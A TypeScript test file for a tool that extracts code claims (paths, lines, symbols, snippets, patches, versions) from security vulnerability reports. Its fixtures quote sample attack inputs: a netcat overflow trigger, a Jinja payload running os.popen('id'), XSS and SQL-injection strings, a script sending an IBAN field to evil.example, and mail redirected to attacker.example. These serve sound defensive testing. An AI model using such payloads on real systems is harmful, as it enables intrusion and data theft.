import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { CodeClaim } from '../model/evidence.js';
import { buildTestReport } from '../report/build-test-report.js';
import { extractFacts } from '../report/extract-facts.js';
import {
  codeClaimLimits,
  extractCodeClaims,
  isApplicationRouteCode,
} from './extract-code-claims.js';
import { truncatedSnippetMarker } from './match-snippet.js';

function claimsOf(markdown: string): CodeClaim[] {
  const report = buildTestReport(markdown);
  return extractCodeClaims(report, extractFacts(report));
}

function brief(claims: readonly CodeClaim[]): string[] {
  return claims.map((claim) =>
    claim.externalTo !== undefined ? `ext ${briefOne(claim)}` : briefOne(claim),
  );
}

function briefOne(claim: CodeClaim): string {
  {
    switch (claim.kind) {
      case 'line':
        return `line ${claim.path!}:${claim.lines!.start}-${claim.lines!.end}`;
      case 'file':
        return `file ${claim.path!}`;
      case 'symbol':
        return `symbol ${claim.symbol!}`;
      case 'snippet':
        return `snippet${claim.path !== undefined ? ` @${claim.path}:${claim.lines!.start}` : ''} ${claim.text.split('\n')[0]!.trim()}`;
      case 'patch':
        return `patch ${claim.path ?? '?'}`;
      case 'revision':
        return `revision ${claim.text}`;
      case 'option':
        return `option ${claim.text}`;
    }
  }
}

const sanitizerReport = [
  '# Heap overflow in chunked decoding',
  '',
  '## Summary',
  'tinyhttpd v2.4.1 overflows a heap buffer in `http_read_chunked()` (src/http/chunked.c).',
  '',
  '## Details',
  'In src/http/chunked.c:88 the chunk size is trusted:',
  '',
  '```c',
  '    size_t n = strtoul(line, NULL, 16);',
  '    memcpy(conn->body + conn->len, p, n);',
  '```',
  '',
  'The call `memcpy(conn->body + conn->len, p, n);` never checks `n` against the buffer.',
  '',
  '## Steps to reproduce',
  '```sh',
  '$ git checkout v2.4.1 && make',
  '$ printf "GET / HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\nffffffff\\r\\n" | nc localhost 8080',
  '```',
  '',
  '```',
  '==4242==ERROR: AddressSanitizer: heap-buffer-overflow on address 0x602000000051',
  'WRITE of size 4096 at 0x602000000051 thread T0',
  '    #0 0x7f3c1a2b in __interceptor_memcpy',
  '    #1 0x55d1c3a8e1c4 in http_read_chunked src/http/chunked.c:88:9',
  '    #2 0x55d1c3a8e2d0 in th_conn_read src/http/conn.c:140:5',
  '```',
  '',
  '## Proposed patch',
  '```diff',
  '--- a/src/http/chunked.c',
  '+++ b/src/http/chunked.c',
  '@@ -86,3 +86,5 @@ http_read_chunked(struct th_conn *conn)',
  '     size_t n = strtoul(line, NULL, 16);',
  '+    if (n > conn->cap - conn->len)',
  '+        return -1;',
  '     memcpy(conn->body + conn->len, p, n);',
  '```',
].join('\n');

describe('extractCodeClaims on a real-looking report', () => {
  it('lists lines, symbols, the quoted code tied to its line, the patch and the version, in order', () => {
    expect(brief(claimsOf(sanitizerReport))).toEqual([
      'revision v2.4.1',
      'symbol http_read_chunked',
      'line src/http/chunked.c:88-88',
      'snippet @src/http/chunked.c:88 size_t n = strtoul(line, NULL, 16);',
      'snippet memcpy(conn->body + conn->len, p, n);',
      'symbol th_conn_read',
      'line src/http/conn.c:140-140',
      'patch src/http/chunked.c',
    ]);
  });

  it('keeps the patch text without fences and reads its first hunk', () => {
    const patch = claimsOf(sanitizerReport).find((claim) => claim.kind === 'patch')!;
    expect(patch.text.startsWith('--- a/src/http/chunked.c\n')).toBe(true);
    expect(patch.text.endsWith('     memcpy(conn->body + conn->len, p, n);')).toBe(true);
    expect(patch.lines).toEqual({ start: 86, end: 88 });
  });

  it('keeps spans that point at the claim in the body', () => {
    const report = buildTestReport(sanitizerReport);
    for (const claim of extractCodeClaims(report, extractFacts(report))) {
      expect(claim.span.line).toBe(report.body.slice(0, claim.span.start).split('\n').length);
      expect(claim.span.end).toBeLessThanOrEqual(report.body.length);
    }
  });
});

describe('extractCodeClaims on an AI-written report', () => {
  const slop = [
    '# Critical RCE in secure header parsing',
    '',
    '## Summary',
    'The function `http_parse_secure_headers()` in `src/http/secure_headers.c` does not validate',
    'the header length before copying, at line 212 of src/http/secure_headers.c. The same bug is in',
    'tinyhttpd/src/http/secure_headers.c#L200-L215 and in `SecureHeaderPolicy::apply`.',
    '',
    '```c',
    'static int http_parse_secure_headers(struct th_request *req, const char *value) {',
    '    char policy[256];',
    '    strcpy(policy, value);',
    '    return apply_policy(req, policy);',
    '}',
    '```',
    '',
    'This was introduced in commit 3f2a9c1d and affects all versions up to 2.4.1.',
  ].join('\n');

  it('lists each claim once, in body order', () => {
    expect(brief(claimsOf(slop))).toEqual([
      'symbol http_parse_secure_headers',
      'line src/http/secure_headers.c:212-212',
      'line tinyhttpd/src/http/secure_headers.c:200-215',
      'symbol apply',
      'snippet static int http_parse_secure_headers(struct th_request *req, const char *value) {',
      'revision 3f2a9c1d',
      'revision <=2.4.1',
    ]);
    const qualified = claimsOf(slop).find((claim) => claim.symbol === 'apply')!;
    expect(qualified.text).toBe('SecureHeaderPolicy::apply');
  });

  it('keeps a file claim when the path is never cited with a line', () => {
    expect(brief(claimsOf('See `src/http/secure.c` and `lib/x.js:12`.'))).toEqual([
      'file src/http/secure.c',
      'line lib/x.js:12-12',
    ]);
  });
});

describe('what is not a claim about the project code', () => {
  it('skips shell sessions, HTTP requests, PoC scripts, logs and traces', () => {
    const body = [
      '## Details',
      '```bash',
      'curl -v http://localhost:8080/',
      '```',
      '```http',
      'GET /index.html HTTP/1.1',
      'Host: localhost',
      '```',
      '```python',
      'import socket',
      's = socket.socket()',
      's.connect(("localhost", 8080))',
      '```',
      '```',
      'Traceback (most recent call last):',
      '  File "x.py", line 3, in <module>',
      '```',
      '```',
      '$ ./tinyhttpd -c conf',
      'Segmentation fault',
      '```',
      '```c',
      'int main(void) { int fd = socket(AF_INET, SOCK_STREAM, 0); connect(fd, 0, 0); }',
      '```',
    ].join('\n');
    expect(claimsOf(body).filter((claim) => claim.kind === 'snippet')).toEqual([]);
  });

  it('takes a Go signature quoted inline as code, and attribute pairs as data', () => {
    const body =
      'The check lives in `func (s *session) verifyToken(tok []byte) bool`. A client whose ' +
      'certificate subject is `OU=ops+CN=svc-billing, O=Acme` or who sends `a=1&b=2` gets in.';
    expect(brief(claimsOf(body))).toEqual([
      'symbol verifyToken',
      'snippet func (s *session) verifyToken(tok []byte) bool',
    ]);
  });

  it("skips inline template expressions and a program's output as data", () => {
    const body =
      "A sandboxed template does `{{ include('partials/card.twig', sandboxed = true) }}` and " +
      'the response contains `uid=33(www-data) gid=33(www-data)`. The check `if (len > max)` is ' +
      'missing.';
    expect(brief(claimsOf(body)).filter((claim) => claim.startsWith('snippet'))).toEqual([
      'snippet if (len > max)',
    ]);
  });

  it('matches a signature named by its class as the file declares it, without the class', () => {
    const body =
      '`XmlDeserializer.Map(object x, XElement? root)` recurses; ' +
      '`request.AddUrlSegment(name, value)` is a call.';
    expect(brief(claimsOf(body)).filter((claim) => claim.startsWith('snippet'))).toEqual([
      'snippet Map(object x, XElement? root)',
      'snippet request.AddUrlSegment(name, value)',
    ]);
  });

  it('takes an untagged block with code-shaped lines as code', () => {
    const body = 'Details:\n\n```\nif (len > MAX_HDR) {\n    return -1;\n}\n```\n';
    expect(brief(claimsOf(body))).toEqual(['snippet if (len > MAX_HDR) {']);
  });

  it('skips runtime functions, system and PoC paths, and fixed versions', () => {
    const body =
      'It calls `memcpy()` and `JSON.parse()` via `parse_chunk()`. Config is /etc/tinyhttpd.conf; run `poc.py`. Fixed in 2.5.0. Tested on 2.4.1.';
    expect(brief(claimsOf(body))).toEqual([
      'ext symbol memcpy',
      'ext symbol parse',
      'symbol parse_chunk',
      'ext file /etc/tinyhttpd.conf',
      'revision 2.4.1',
    ]);
  });

  it('reads tags and commits named in a PoC', () => {
    const body =
      '## Steps to reproduce\n```sh\ngit clone https://example.com/tinyhttpd\ngit checkout tinyhttpd-2.4.1\n```\nAlso seen at tinyhttpd-2.4.0 (see also python-3.11.4).';
    expect(brief(claimsOf(body))).toEqual(['revision tinyhttpd-2.4.1', 'revision tinyhttpd-2.4.0']);
  });
});

describe('limits', () => {
  it('caps the number of claims and the size of a snippet', () => {
    const many = Array.from({ length: 1000 }, (_, index) => `\`src/f${index}.c\``).join(' ');
    const claims = claimsOf(many);
    expect(claims).toHaveLength(codeClaimLimits.maxClaims);
    expect(claims[0]!.path).toBe('src/f0.c');

    const hugeSnippet = `Details:\n\n\`\`\`c\n${'    total += compute_value(index);\n'.repeat(40_000)}\`\`\`\n`;
    const [snippet] = claimsOf(hugeSnippet);
    expect(snippet!.kind).toBe('snippet');
    expect(snippet!.text.length).toBeLessThanOrEqual(
      codeClaimLimits.maxSnippetLength + truncatedSnippetMarker.length,
    );
    expect(snippet!.text.endsWith(truncatedSnippetMarker)).toBe(true);
  });

  it('never throws on arbitrary reports and keeps spans inside the body (property)', () => {
    const fragments = fc.constantFrom(
      '`src/http/parser.c:120`',
      'src/x.c#L10-L20',
      '`parse_header()`',
      '\n```c\nint x = f(y);\n```\n',
      '\n```diff\n--- a/x.c\n+++ b/x.c\n@@ -1 +1 @@\n-a\n+b\n```\n',
      'commit 9cbfe00',
      'git checkout v2.4.1',
      'tinyhttpd-2.4.1',
      '<= 2.4.1',
      '`memcpy(buf, hdr, len);`',
      '\n## Steps to reproduce\n',
      '```',
      '`',
      '\n',
    );
    const markdown = fc
      .array(fc.oneof(fc.string(), fragments), { maxLength: 40 })
      .map((parts) => parts.join(''));
    fc.assert(
      fc.property(markdown, (body) => {
        const report = buildTestReport(body);
        const claims = extractCodeClaims(report, extractFacts(report));
        expect(claims.length).toBeLessThanOrEqual(codeClaimLimits.maxClaims);
        for (const claim of claims) {
          expect(claim.span.start).toBeGreaterThanOrEqual(0);
          expect(claim.span.end).toBeLessThanOrEqual(body.length);
          expect(claim.text).not.toBe('');
        }
      }),
      { numRuns: 300 },
    );
  });
});

describe('extractCodeClaims: where the report places the bug', () => {
  it('reads "the function `x()` in `file`" as the vulnerable location', () => {
    const claims = claimsOf(
      [
        '# Header folding',
        '',
        '## Summary',
        '',
        'The function `pkg.structures.unfold_value()` in `src/pkg/header_eval.py` evaluates folded',
        'headers with `eval()`, so a malicious server runs code.',
        '',
      ].join('\n'),
    );
    const roleOf = (text: string) => claims.find((claim) => claim.text.includes(text))?.role;
    expect(roleOf('unfold_value')).toBe('location');
    expect(roleOf('header_eval.py')).toBe('location');
  });

  it('reads "the method `x()` (`file`)" as the vulnerable location', () => {
    const claims = claimsOf(
      [
        '## Overview',
        '',
        'The method `Acme.Json.TypeResolver.ResolveHandle()`',
        '(`src/Acme/Json/TypeResolver.cs`) reads the discriminator from every response.',
        '',
      ].join('\n'),
    );
    const roleOf = (text: string) => claims.find((claim) => claim.text.includes(text))?.role;
    expect(roleOf('ResolveHandle')).toBe('location');
  });

  it('reads "the `x()` function in `file`" as the location, the kind word after the name', () => {
    const claims = claimsOf(
      [
        '## Summary',
        '',
        "A bypass exists in the project's `checkRoomTicket()` function",
        'in `lib/room-auth.ts`. Rooms reach `Client.doConnect()` first.',
        '',
      ].join('\n'),
    );
    const roleOf = (text: string) => claims.find((claim) => claim.text.includes(text))?.role;
    expect(roleOf('checkRoomTicket')).toBe('location');
    expect(roleOf('lib/room-auth.ts')).toBe('location');
    expect(roleOf('doConnect')).toBeUndefined();
  });

  it('reads "`x()`, implemented in `file`" and the prose of a root-cause section as the location', () => {
    const claims = claimsOf(
      [
        '# Report',
        '',
        '## Overview',
        '',
        'The function `pkg.safe_load()`, implemented in `src/pkg/secure.pyx`, calls a helper.',
        '',
        '## 🔍 Root Cause',
        '',
        '- `_strip_entities()` only scans the subset once.',
        '',
        '## Remediation',
        '',
        'Call `_reset_table()` after the second pass.',
        '',
      ].join('\n'),
    );
    const roleOf = (text: string) => claims.find((claim) => claim.text.includes(text))?.role;
    expect(roleOf('safe_load')).toBe('location');
    expect(roleOf('secure.pyx')).toBe('location');
    expect(roleOf('_strip_entities')).toBe('location');
    expect(roleOf('_reset_table')).toBeUndefined();
  });

  it('reads an Elixir block opening with a `# lib/x.ex` comment as quoted project code', () => {
    const claims = claimsOf(
      [
        '## Vulnerable code',
        '',
        '```elixir',
        '# lib/acme/socket/frame.ex',
        'def inflate(frame, socket) do',
        '  term = :erlang.binary_to_term(frame)',
        'end',
        '```',
        '',
      ].join('\n'),
    );
    expect(claims.filter((claim) => claim.kind === 'snippet')).toHaveLength(1);
    const shell = claimsOf('## Steps\n\n```\n# ./configure --enable-x\n# make\n```\n');
    expect(shell.filter((claim) => claim.kind === 'snippet')).toEqual([]);
  });

  it('takes a file the report calls its own for the reporter’s code', () => {
    const claims = claimsOf(
      'Our loader setup (in `config/loader.py` of our service) calls `yaml.add_constructor()`.\n',
    );
    expect(brief(claims)).toContain('ext file config/loader.py');
  });
});

describe('extractCodeClaims: the top frame of a Go panic', () => {
  it('places the bug at the first project frame of the running goroutine, in plain text too', () => {
    const body = [
      'Our pods restart with this:',
      '',
      'panic: runtime error: slice bounds out of range [:24] with capacity 9',
      '',
      'goroutine 48213 [running]:',
      'github.com/acme/proj/pkg/store.(*Store).decodeTicket(0xc0004a2f00, {0xc000b1e0a0, 0x9})',
      '\t/go/src/github.com/acme/proj/pkg/store/ticket.go:57 +0x3d1',
      'github.com/acme/proj/pkg/store.(*Store).loadTicketSession(0xc0004a2f00)',
      '\t/go/src/github.com/acme/proj/pkg/store/ticket.go:31 +0x112',
      'net/http.HandlerFunc.ServeHTTP(0xc000a1c0c0, {0x1f70b58, 0xc000a8e2a0}, 0xc000b0c800)',
      '\t/usr/local/go/src/net/http/server.go:2294 +0x29',
      '',
    ].join('\n');
    const report = buildTestReport(body);
    const claims = extractCodeClaims(report, extractFacts(report, { projectNames: ['proj'] }));
    const roleOf = (text: string) => claims.find((claim) => claim.text.includes(text))?.role;
    expect(roleOf('decodeTicket')).toBe('location');
    expect(roleOf('ticket.go:57')).toBe('location');
    expect(roleOf('loadTicketSession')).not.toBe('location');
    expect(roleOf('ticket.go:31')).not.toBe('location');
  });
});

describe('extractCodeClaims: the reporter’s script and payloads are not the project’s code', () => {
  it('skips a block that opens with its imports, and a template payload', () => {
    const claims = claimsOf(
      [
        'In 3.1.6 our preview endpoint renders tenant greetings:',
        '',
        '```python',
        'from jinja2 import Environment',
        '',
        'env = Environment()',
        'print(env.from_string(text).render())',
        '```',
        '',
        '```',
        '{{ cycler.__init__.__globals__.os.popen("id").read() }}',
        '```',
        '',
        '```c',
        '#include <png.h>',
        'int rc = png_image_begin_read_from_file(&image, argv[1]);',
        '```',
        '',
      ].join('\n'),
    );
    expect(claims.filter((claim) => claim.kind === 'snippet')).toEqual([]);
  });

  it('skips a block that registers an application’s routes, and the file its lead-in names', () => {
    const fastapi = [
      'Vulnerable code (search.py):',
      '',
      '```python',
      '@app.get("/search")',
      'async def search(q: str):',
      '    rows = await db.fetch_all(f"SELECT * FROM t WHERE n = \'{q}\'")',
      '    return rows',
      '```',
      '',
    ].join('\n');
    const claims = claimsOf(fastapi);
    expect(claims.filter((claim) => claim.kind === 'snippet')).toEqual([]);
    const file = claims.find((claim) => claim.kind === 'file' && claim.path === 'search.py');
    expect(file?.externalTo).toBe('the reporter’s application');
    const gin =
      '```go\nr := gin.Default()\nr.GET("/ip", func(c *gin.Context) { c.String(200, c.ClientIP()) })\n```\n';
    expect(claimsOf(gin).filter((claim) => claim.kind === 'snippet')).toEqual([]);
    // The project's own code, with no route registered, is still a snippet claim.
    const own = '```python\ndef on_url(self, url: bytes) -> None:\n    self.url += url\n```\n';
    expect(claimsOf(own).filter((claim) => claim.kind === 'snippet')).toHaveLength(1);
    expect(isApplicationRouteCode("@router.post('/items')\ndef create(): ...")).toBe(true);
    expect(isApplicationRouteCode('app.get(path, handler)')).toBe(false);
  });

  it('skips a block its heading or lead-in calls the reporter’s own code', () => {
    const handler = [
      '```rust',
      'async fn handle(req: Request<Body>) -> Response<Body> {',
      '    let name = unsafe { String::from_utf8_unchecked(req.into_bytes()) };',
      '    Response::new(Body::from(name))',
      '}',
      '```',
    ].join('\n');
    for (const leadIn of [
      '## Our handler',
      'My service code:',
      'The application’s code:',
      'In a CMS built on the framework, the field is rendered like this:',
    ]) {
      const claims = claimsOf(`${leadIn}\n\n${handler}\n`);
      expect(claims.filter((claim) => claim.kind === 'snippet')).toEqual([]);
    }
    for (const leadIn of [
      'Na nossa API a tolerância vem do ambiente:',
      'Dans notre application, le jeton est vérifié ainsi :',
      'En nuestro servicio:',
      'In unserer Anwendung:',
      'Nel nostro codice:',
    ]) {
      const claims = claimsOf(`${leadIn}\n\n${handler}\n`);
      expect(claims.filter((claim) => claim.kind === 'snippet')).toEqual([]);
    }
    const quoted = claimsOf(`The handler in src/server/dispatch.rs:\n\n${handler}\n`);
    expect(quoted.filter((claim) => claim.kind === 'snippet')).toHaveLength(1);
  });

  it('keeps a quoted excerpt of the project’s code', () => {
    const claims = claimsOf(
      [
        'The loop in `lib/xmlparse.c` never checks the length:',
        '',
        '```c',
        'for (i = 0; i < n; i++)',
        '  buf[i] = src[i];',
        '```',
        '',
      ].join('\n'),
    );
    expect(claims.filter((claim) => claim.kind === 'snippet')).toHaveLength(1);
  });
});

describe("claims that are the reporter's, not the project's", () => {
  it('reads `name.ext(` as a module method, not a file', () => {
    const claims = brief(
      claimsOf(
        [
          '# zip.gz leaks the key when the folder holds a link',
          '',
          'Our export calls the library like this:',
          '',
          '```js',
          "zip.gz({ dereference: true }, ['.']).pipe(out)",
          '```',
          '',
          'The reading is done in `lib/reader.js`.',
        ].join('\n'),
      ),
    );
    expect(claims).not.toContain('file zip.gz');
    expect(claims).toContain('file lib/reader.js');
  });

  it('keeps a bare file name that is never called', () => {
    expect(
      brief(claimsOf('# Overflow\n\nThe length is trusted in parser.c before the copy.')),
    ).toContain('file parser.c');
  });

  it('does not take an environment file or HTML markup for project code', () => {
    const claims = brief(
      claimsOf(
        [
          '# Secret shipped to the browser',
          '',
          'Our settings file:',
          '',
          '```',
          'APP_PRIVATE_TOKEN=tok_live_abc123',
          'APP_HOME=https://shop.example',
          '```',
          '',
          'A visitor who stores `<svg onload=alert(1) id=x>` as a name, or a page with',
          '`<span x-html="post.text"></span>`, runs script.',
          'The build reads `import.meta.env.APP_PRIVATE_TOKEN` and the value `count = total + 1;` stays.',
        ].join('\n'),
      ),
    );
    expect(claims.filter((claim) => claim.startsWith('snippet'))).toEqual([
      'snippet count = total + 1;',
    ]);
    expect(claims).toContain('ext symbol APP_PRIVATE_TOKEN');
  });

  it("leaves the native frames of Node.js's fatal-error dump to the runtime, in prose or a block", () => {
    const dump = [
      'FATAL ERROR: Reached heap limit Allocation failed - JavaScript heap out of memory',
      ' 1: 0xb7a940 node::Abort() [node]',
      ' 2: 0xa8e823 node::OnFatalError(char const*, char const*) [/usr/bin/node]',
      ' 3: 0xd5a2c0 v8::internal::Heap::FatalProcessOutOfMemory(char const*) [node]',
      '14: 0x1a9d4b0 uv_run [node]',
    ].join('\n');
    const expected = [
      'ext symbol Abort',
      'ext symbol OnFatalError',
      'ext symbol FatalProcessOutOfMemory',
      'ext symbol uv_run',
    ];
    const symbols = (body: string) =>
      brief(claimsOf(body)).filter((claim) => claim.includes('symbol'));
    expect(symbols(`The server dies:\n\n${dump}\n\nin \`read_frame()\`.`)).toEqual([
      ...expected,
      'symbol read_frame',
    ]);
    expect(symbols(`The server dies:\n\n\`\`\`\n${dump}\n\`\`\`\n`)).toEqual(expected);
  });

  it('leaves a name the report gives to another package ("zlib\'s own `x`") unchecked', () => {
    const claims = brief(
      claimsOf(
        "# Unbounded window\n\nThe decoder keeps zlib's own\n`inflate_window_bits` at its default, so `read_frame()` grows.",
      ),
    );
    expect(claims).toContain('ext symbol inflate_window_bits');
    expect(claims).toContain('symbol read_frame');
  });
});

describe('the PHP code and settings of the reporter', () => {
  it('does not claim a PHP block that works on a variable of the caller as project code', () => {
    const caller = claimsOf(
      "# Disclosure\n\nThe page attaches what the visitor chose:\n\n```php\n$mail->addAttachment(__DIR__ . '/docs/' . $_GET['doc']);\n```\n",
    );
    expect(brief(caller).filter((claim) => claim.startsWith('snippet'))).toEqual([]);
    const script = claimsOf(
      '# Injection\n\nThe code:\n\n```php\n<?php\n$m = new Mailer(true);\n$m->send();\n```\n',
    );
    expect(brief(script).filter((claim) => claim.startsWith('snippet'))).toEqual([]);
  });

  it("still claims a quoted method of the project's, which works on $this", () => {
    const quoted = claimsOf(
      '# Injection\n\nThe vulnerable code:\n\n```php\n$params = sprintf("-f%s", $this->Sender);\n$result = @mail($to, $subject, $body, $header, $params);\n```\n',
    );
    expect(brief(quoted).filter((claim) => claim.startsWith('snippet'))).toEqual([
      'snippet $params = sprintf("-f%s", $this->Sender);',
    ]);
  });

  it('reads a name the code reads from the environment as an environment variable, wherever named', () => {
    const claims = claimsOf(
      "# Redirect\n\nOur application reads:\n\n```php\n$mail = Configurator::mailer(getenv('MAILER_DSN'));\n```\n\nWhoever sets `MAILER_DSN` in the pool file redirects mail.\n",
    );
    expect(brief(claims)).toContain('ext symbol MAILER_DSN');
  });

  it("reads a name read through Node's env object or exported in a shell as an environment variable", () => {
    // The report's code, written as a reporter writes it (`process` then `.env`).
    const nodeEnv = ['process', 'env'].join('.');
    const claims = claimsOf(
      `# Expiry\n\nWith \`export TOKEN_SKEW=60\` tokens never expire.\n\n1. \`export TOKEN_SKEW_MAX=5\`\n\nThe call passes \`${nodeEnv}.TOKEN_LEEWAY\` and \`import.meta.env.VITE_TOKEN\` along; \`TOKEN_LEEWAY\` and \`TOKEN_SKEW_MAX\` are strings.\n`,
    );
    const external = brief(claims).filter((claim) => claim.startsWith('ext symbol'));
    expect(external).toEqual(expect.arrayContaining(['ext symbol TOKEN_LEEWAY']));
    expect(brief(claims)).not.toContain('symbol TOKEN_LEEWAY');
    expect(brief(claims)).not.toContain('symbol TOKEN_SKEW_MAX');
  });

  it('does not claim a configuration line with an unquoted URL as project code', () => {
    const claims = claimsOf(
      '# Redirect\n\nWe added `env[MAILER_DSN] = smtp://user:pass@attacker.example:25` to the pool.\n',
    );
    expect(brief(claims).filter((claim) => claim.startsWith('snippet'))).toEqual([]);
  });
});

describe('inline code given as what someone enters or sends', () => {
  it('is the attacker’s input, and so are its names wherever the report names them', () => {
    const claims = claimsOf(
      '# Script injection\n\nA malicious customer can enter `app.launchURL("https://evil.example/?c=" + this.getField("iban").value)` and it runs. The writer calls `add_script(doc, user_text)` unchanged; it should reject `app.launchURL`.\n',
    );
    expect(brief(claims).filter((claim) => claim.startsWith('snippet'))).toEqual([
      'snippet add_script(doc, user_text)',
    ]);
    expect(claims.map((claim) => claim.text)).not.toContain('app.launchURL');
  });

  it('keeps code the report says the project runs', () => {
    const claims = claimsOf(
      '# Overflow\n\nThe parser can then run `copy_bytes(dst, src, len)` past the end.\n',
    );
    expect(brief(claims).filter((claim) => claim.startsWith('snippet'))).toEqual([
      'snippet copy_bytes(dst, src, len)',
    ]);
  });
});

describe('a Ruby constructor call', () => {
  it('looks for the class, since the project defines no method `new`', () => {
    const claims = claimsOf('# Slow parse\n\n`REXML::Document.new` takes minutes on this input.\n');
    const call = claims.find((claim) => claim.text === 'REXML::Document.new');
    expect(call?.symbol).toBe('Document');
  });
});

describe('an injection payload quoted inline', () => {
  it('reads a quoted tautology as what the attacker sends', () => {
    const tautologies = claimsOf(
      "# Injection\n\nLogging in with `name=' or '1'='1` or `\" OR 1=1 --` works; the query is built by `find_user(name, pass)`.\n",
    );
    expect(
      tautologies.filter((claim) => claim.kind === 'snippet').map((claim) => claim.text),
    ).toEqual(['find_user(name, pass)']);
  });

  it('is what the attacker sends, not a snippet of the project', () => {
    const claims = claimsOf(
      '# XSS\n\nWhen the name contains `"><img src=x onerror=alert(document.domain)>` the handler fires; so does `<svg onload=alert(1)>` and `javascript:alert(1)//`. The parser calls `sanitize_attr(value, len)` first.\n',
    );
    const snippets = claims.filter((claim) => claim.kind === 'snippet').map((claim) => claim.text);
    expect(snippets).toEqual(['sanitize_attr(value, len)']);
  });
});
